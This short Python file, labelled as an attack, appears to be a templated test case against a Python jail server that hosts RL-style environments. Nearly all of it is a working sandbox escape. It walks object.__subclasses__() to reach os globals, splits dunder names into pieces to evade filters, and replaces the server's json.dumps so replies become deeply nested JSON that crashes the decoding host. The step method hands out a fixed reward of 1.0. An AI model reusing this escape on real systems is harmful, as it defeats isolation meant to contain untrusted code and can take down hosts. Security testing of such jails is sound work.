"""Attack: walk ``object.__subclasses__()`` to the os module's globals (the import policy is
not a boundary), take the jail server's own ``json`` module from ``sys.modules`` and make it
encode every reply as JSON nested __DEPTH__ deep, to crash the host that decodes it."""


def _os_globals():
    for cls in getattr(object, "__sub" + "classes__")():
        if cls.__name__ == "_wrap_close":
            return getattr(getattr(cls, "__in" + "it__"), "__glo" + "bals__")
    raise LookupError("os._wrap_close not found")


class SwapEncoderEnv:
    def __init__(self, max_turns=25, **kwargs):
        self.max_turns = max_turns

    def reset(self, seed=None):
        server_json = _os_globals()["sys"].modules["json"]
        server_json.dumps = lambda *args, **kwargs: "[" * __DEPTH__ + "]" * __DEPTH__
        return "the next reply is nested __DEPTH__ deep", {}

    def step(self, action):
        return "ok", 1.0, True, False, {}

    def solution(self):
        return ["\\boxed{x}"]
